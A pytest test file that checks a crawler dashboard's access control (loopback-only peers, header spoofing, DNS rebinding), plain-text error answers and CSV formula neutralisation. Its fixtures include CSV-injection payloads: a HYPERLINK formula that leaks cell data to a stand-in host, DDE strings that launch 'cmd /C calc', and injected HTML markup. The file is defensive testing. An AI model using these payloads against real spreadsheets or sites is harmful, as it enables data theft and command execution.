"""The token-less dashboard's door: who it listens to, who it answers, what its errors and CSV say.

Everything runs the real thing: ``peercrawl dashboard`` and ``peercrawl run`` as
subprocesses on gevent's WSGI server, requests over real sockets. A peer outside
loopback is a socket bound to one of this machine's own non-loopback addresses
(Linux lets it connect to 127.0.0.0/8; the server sees that address as the peer).
The CSV's data is recorded by the real ``Recorder`` over a real GeoIP database
(tests/mmdb.py) whose place names are spreadsheet formulas.
"""

from __future__ import annotations

import csv
import http.client
import io
import ipaddress
import json
import re
import socket
import subprocess
import sys
import threading
from urllib.parse import quote

import psutil
import pytest
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

import geo
from crawler.counters import Recorder
from crawler.dashboard.access import check_bind, is_loopback, refusal
from crawler.dashboard.app import create_app
from crawler.dashboard.server import make_server
from crawler.dashboard.views import Views
from crawler.errors import SettingsError
from crawler.safe_text import FORMULA_START
from tests.cli import run, start_run
from tests.dashboard_data import record_world
from tests.mmdb import write_city_db

TOKEN = "a-dashboard-token-0123"
FORWARDING = {"Host": "localhost", "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1",
              "Forwarded": "for=127.0.0.1;host=localhost", "X-Forwarded-Host": "localhost"}
MARKUP = '<h1 id="big">reflected</h1><form id="evil" action="http://127.0.0.1:1/"><input name="q"></form>'

# A GeoIP database whose place names are formulas: every one must reach a CSV cell with a leading '.
HYPERLINK = '=HYPERLINK("http://127.0.0.1:1/leak?x="&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"
FORMULAS = {
    "21.0.1.0/24": ("Germany", HYPERLINK, DDE),
    "21.0.2.0/24": ("Germany", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"),
    "21.0.3.0/24": ("=1+2", "+SUM(A1)", "@A1"),
}
FORMULA_HASH = "f0" * 20


def outside_address(family: int) -> str | None:
    """One of this machine's own addresses outside loopback (not link-local), or None."""
    for addrs in psutil.net_if_addrs().values():
        for a in addrs:
            if a.family != family:
                continue
            ip = ipaddress.ip_address(a.address.split("%", 1)[0])
            if not (ip.is_loopback or ip.is_link_local):
                return str(ip)
    return None


def need_outside(family: int = socket.AF_INET) -> str:
    got = outside_address(family)
    if got is None:  # pragma: no cover - the CI machine has one (its eth0)
        pytest.skip(f"this machine has no non-loopback {family.name} address to connect from")
    return got


def get(host: str, port: int, path: str, headers: dict | None = None, source: str | None = None,
        method: str = "GET") -> tuple[int, str, str]:
    """(status, Content-Type, body) of one request over a real socket, from ``source`` when given."""
    c = http.client.HTTPConnection(host, port, timeout=15, source_address=(source, 0) if source else None)
    try:
        c.putrequest(method, path, skip_host=bool(headers and "Host" in headers))
        for k, v in (headers or {}).items():
            c.putheader(k, v)
        c.endheaders()
        r = c.getresponse()
        return r.status, r.getheader("Content-Type", ""), r.read().decode("utf-8", "replace")
    finally:
        c.close()


@pytest.fixture
def dashboard(client, keys, settings, test_env, tmp_path):
    """Start ``peercrawl dashboard ARGS`` (token-less unless ``env`` says); returns a starter that
    yields (host, port) once it printed its address."""
    procs: list[subprocess.Popen] = []

    def start(*args: str, env: dict | None = None) -> tuple[str, int]:
        p = subprocess.Popen([sys.executable, "-m", "crawler", "dashboard", *args, "--port", "0"],
                             env=env or test_env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        procs.append(p)
        found: list[str] = []
        ready = threading.Event()

        def read():
            for line in p.stderr:
                m = re.search(r"peercrawl dashboard: http://(\S+):(\d+)/", line)
                if m and not found:
                    found.append(m.group(0))
                    ready.set()

        threading.Thread(target=read, daemon=True).start()
        assert ready.wait(30), "the dashboard printed no address"
        m = re.search(r"http://\[?([^\]/]+?)\]?:(\d+)/", found[0])
        return m.group(1), int(m.group(2))

    record_world(client, keys, settings, tmp_path)
    yield start
    for p in procs:
        p.terminate()
        p.wait(15)


# --- at start ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("host", ["0.0.0.0", "::", "", "outside"])
def test_a_host_beyond_loopback_without_token_is_refused_at_start(test_env, host):
    host = need_outside() if host == "outside" else host
    p = run(test_env, "dashboard", "--host", host, "--port", "0", timeout=30)
    lines = p.stderr.strip().splitlines()
    assert p.returncode == 2 and len(lines) == 1, p.stderr
    assert "PEERCRAWL_DASHBOARD_TOKEN" in lines[0] and "--host" in lines[0] and "Traceback" not in p.stderr
    assert "peercrawl dashboard: http" not in p.stderr  # it never listened


def test_run_refuses_a_dashboard_host_beyond_loopback_before_it_crawls(test_env):
    p = run(test_env, "run", "ab" * 20, "--until-idle", "--dashboard-host", "0.0.0.0", "--dashboard-port", "0",
            timeout=60)
    lines = p.stderr.strip().splitlines()
    assert p.returncode == 2 and len(lines) == 1, p.stderr
    assert "--dashboard-host 0.0.0.0" in lines[0] and "PEERCRAWL_DASHBOARD_TOKEN" in lines[0]
    status = json.loads(run(test_env, "status", "--json").stdout)
    assert status["tracked"] == 0  # nothing was added, nothing crawled


def test_check_bind_decides_by_address():
    for host in ("127.0.0.1", "127.0.0.2", "127.255.255.254", "::1", "localhost"):
        check_bind(host, None)  # loopback: served without a token
    for host in ("0.0.0.0", "::", "", " ", "192.0.2.1", "fd00::2", "0", "::ffff:192.0.2.1"):
        with pytest.raises(SettingsError, match="PEERCRAWL_DASHBOARD_TOKEN"):
            check_bind(host, None)
        check_bind(host, TOKEN)  # with a token it may listen anywhere
    with pytest.raises(SettingsError, match=r"--dashboard-host .*cannot resolve"):
        check_bind("no-such-name.invalid", None, "--dashboard-host")


# --- per request: the peer address, not a header ---------------------------------------------------

def test_a_peer_outside_loopback_is_refused_whatever_it_sends(dashboard):
    outside = need_outside()
    host, port = dashboard("--host", "127.0.0.2")  # loopback, so no token is needed
    for path in ("/api/operators", "/metrics", "/", "/api/overview?format=csv&table=countries"):
        status, ctype, body = get(host, port, path, FORWARDING, source=outside)
        assert status == 403, (path, status, body[:200])
        assert ctype.startswith("text/plain") and "PEERCRAWL_DASHBOARD_TOKEN" in body
        assert "Germany" not in body and "peercrawl_torrents" not in body
    # the same requests from loopback are served, addressed to the dashboard's own address or localhost
    for headers in ({}, {"Host": "localhost"}, {"Host": f"127.0.0.2:{port}"}, {"Host": "[::1]"}):
        status, ctype, body = get(host, port, "/api/operators", headers)
        assert status == 200 and json.loads(body)["status"]["tracked"] == 4, (headers, status, body[:200])
    assert get(host, port, "/metrics")[0] == 200
    # a loopback peer naming a DNS name (a page whose name is rebound to 127.0.0.1) is refused
    status, _, body = get(host, port, "/api/operators", {"Host": "rebound.example:80"})
    assert status == 403 and "PEERCRAWL_DASHBOARD_TOKEN" in body


def test_a_peer_outside_loopback_is_refused_over_ipv6(dashboard):
    outside = need_outside(socket.AF_INET6)
    host, port = dashboard("--host", "::1")
    status, _, body = get(host, port, "/api/operators", FORWARDING | {"Host": "[::1]"}, source=outside)
    assert status == 403 and "PEERCRAWL_DASHBOARD_TOKEN" in body
    assert get(host, port, "/api/operators", {"Host": "[::1]"})[0] == 200


def test_with_a_token_the_token_is_the_door(dashboard, test_env):
    outside = need_outside()
    host, port = dashboard("--host", "127.0.0.2", env=dict(test_env, PEERCRAWL_DASHBOARD_TOKEN=TOKEN))
    assert get(host, port, "/api/operators", FORWARDING, source=outside)[0] == 401
    status, _, body = get(host, port, "/api/operators", {"Authorization": f"Bearer {TOKEN}"}, source=outside)
    assert status == 200 and json.loads(body)["status"]["tracked"] == 4


def test_run_serves_its_dashboard_to_loopback_peers_only(test_env):
    outside = need_outside()
    p, base = start_run(test_env, "--duration", "20", "--dashboard-host", "127.0.0.2")
    try:
        host, port = re.match(r"http://([^:/]+):(\d+)", base).groups()
        assert get(host, int(port), "/api/operators", FORWARDING, source=outside)[0] == 403
        assert get(host, int(port), "/metrics", FORWARDING, source=outside)[0] == 403
        assert get(host, int(port), "/api/operators", {"Host": "localhost"})[0] == 200
    finally:
        p.terminate()
        assert p.wait(30) == 0


addresses = st.ip_addresses().map(str)
header_text = st.text(max_size=2000)


@hsettings(max_examples=300, deadline=None)
@given(peer=addresses, host=st.one_of(st.none(), header_text, st.sampled_from(["localhost", "127.0.0.1:8650",
                                                                               "[::1]:1", "localhost:80"])))
def test_no_header_opens_the_door_to_a_peer_outside_loopback(peer, host):
    ip = ipaddress.ip_address(peer)
    mapped = getattr(ip, "ipv4_mapped", None)
    inside = (mapped or ip).is_loopback
    assert is_loopback(peer) == inside
    if not inside:
        assert refusal(peer, host) is not None


@hsettings(max_examples=300, deadline=None)
@given(peer=st.one_of(st.none(), header_text), host=st.one_of(st.none(), header_text))
def test_the_decision_never_raises_on_garbage(peer, host):
    got = refusal(peer, host)
    assert got is None or "PEERCRAWL_DASHBOARD_TOKEN" in got
    if not is_loopback(peer or ""):
        assert got is not None


def test_the_test_client_sees_the_same_door(client, keys, settings):
    """The WSGI app decides on REMOTE_ADDR alone (what gevent's server puts there is checked above)."""
    web = create_app(Views(client, keys, settings)).test_client()
    for peer in ("192.0.2.7", "10.0.0.1", "::ffff:192.0.2.7", "fd00::2", "", "localhost"):
        r = web.get("/api/operators", headers=FORWARDING, environ_base={"REMOTE_ADDR": peer})
        assert r.status_code == 403 and r.mimetype == "text/plain", peer
    for peer in ("127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1"):
        assert web.get("/api/operators", environ_base={"REMOTE_ADDR": peer}).status_code == 200, peer


# --- error answers are never HTML ---------------------------------------------------------------------

@pytest.fixture
def served(client, keys, settings, tmp_path):
    """The real dashboard server (``make_server``) on a free loopback port, in this process; yields a
    starter taking the settings' token and returning the port."""
    servers = []

    def start(token: str | None = None) -> int:
        srv = make_server(client, keys, settings.replace(dashboard_token=token), "127.0.0.1", 0)
        srv.start()
        servers.append(srv)
        return srv.address[1]

    yield start
    for srv in servers:
        srv.stop(timeout=2)


def test_every_error_answer_is_plain_text(served, client, keys):
    port = served()
    m = quote(MARKUP)
    cases = [
        ("GET", f"/api/overview?month={m}", {}, 400),
        ("GET", f"/api/overview?limit={m}", {}, 400),
        ("GET", f"/api/operators?hours={m}", {}, 400),
        ("GET", f"/api/overview?format=csv&table={m}", {}, 400),
        ("GET", "/api/operators", {"Host": "rebound.example"}, 403),
        ("GET", f"/nowhere/{m}", {}, 404),
        ("GET", f"/torrent/{m}", {}, 404),
        ("GET", "/api/country/%20", {}, 404),
        ("POST", f"/api/overview?month={m}", {}, 405),
    ]
    for method, path, headers, code in cases:
        status, ctype, body = get("127.0.0.1", port, path, headers, method=method)
        assert status == code, (path, status, body[:300])
        assert ctype == "text/plain; charset=utf-8", (path, ctype)
        assert "<html" not in body.lower() and "<!doctype" not in body.lower(), path
    # a torrent nobody tracks: the view's own 404, JSON
    status, ctype, body = get("127.0.0.1", port, "/api/torrent/" + "0" * 40)
    assert status == 404 and ctype == "application/json" and "not tracked" in json.loads(body)["error"]
    # a 500: a visit count a broken writer left unreadable
    client.hset(keys.visits, MARKUP, "1")
    status, ctype, body = get("127.0.0.1", port, "/api/operators")
    assert status == 500 and ctype == "text/plain; charset=utf-8" and "<" not in body, (status, ctype, body)
    # 401 with a token
    port = served(TOKEN)
    status, ctype, body = get("127.0.0.1", port, f"/api/overview?month={m}")
    assert status == 401 and ctype == "text/plain; charset=utf-8" and "PEERCRAWL_DASHBOARD_TOKEN" in body


# --- CSV cells a spreadsheet would run ----------------------------------------------------------------

def test_every_csv_cell_is_neutralised(served, client, keys, settings, tmp_path):
    rec = Recorder(client, keys, settings, geo.open_locator(write_city_db(tmp_path / "formulas.mmdb", FORMULAS)))
    when = 1_780_000_000  # 2026-05-28
    assert rec.record_visit(FORMULA_HASH, ["21.0.1.1", "21.0.1.2", "21.0.2.1", "21.0.3.1"], when) == 4
    port = served()
    tables = {
        "/api/overview": ("countries", "torrents"),
        "/api/country/Germany": ("cities", "postcodes", "months"),
        "/api/country/" + quote("=1+2", safe=""): ("cities", "postcodes", "months"),
        f"/api/torrent/{FORMULA_HASH}": ("countries", "cities", "months", "visits"),
        "/api/months": ("months",),
        "/api/operators": ("states", "minutes", "workers", "trackers", "quarantined", "lanes", "at_risk"),
    }
    cells: dict[str, list[list[str]]] = {}
    for path, names in tables.items():
        for name in names:
            status, ctype, body = get("127.0.0.1", port, f"{path}?format=csv&table={name}")
            assert status == 200 and ctype.startswith("text/csv"), (path, name, status, body[:200])
            rows = list(csv.reader(io.StringIO(body)))
            cells[f"{path} {name}"] = rows
            for row in rows:
                for cell in row:
                    assert not cell.startswith(FORMULA_START), (path, name, cell)
    def column(key: str, name: str) -> set[str]:
        rows = cells[key]
        return {dict(zip(rows[0], row))[name] for row in rows[1:]}

    eq = "/api/country/" + quote("=1+2", safe="")
    # the csv module unquotes; what a spreadsheet reads starts with '
    # names as GeoIP spells them (the dots in the URL unescaped), each cell still neutralised
    assert column("/api/country/Germany cities", "name") == {"'" + HYPERLINK,
                                                              "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert column("/api/country/Germany postcodes", "name") == {"'" + DDE, "'+1+1"}
    assert column(f"{eq} cities", "name") == {"'+SUM(A1)"} and column(f"{eq} cities", "country") == {"'=1+2"}
    assert column(f"{eq} postcodes", "name") == {"'@A1"}
    assert "'=1+2" in column("/api/overview countries", "name") & column("/api/overview countries", "country")
    assert "'=1+2" in column(f"/api/torrent/{FORMULA_HASH} countries", "name")
    assert column(f"/api/torrent/{FORMULA_HASH} cities", "name") == {
        "'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(A1)"}
    # the counts themselves are written as numbers
    rows = cells["/api/overview countries"]
    counts = {dict(zip(rows[0], r))["metric"]: dict(zip(rows[0], r))["count"] for r in rows[1:]}
    assert counts["countries.Germany.users"] == "3" and counts["countries.=1+2.users"] == "1"
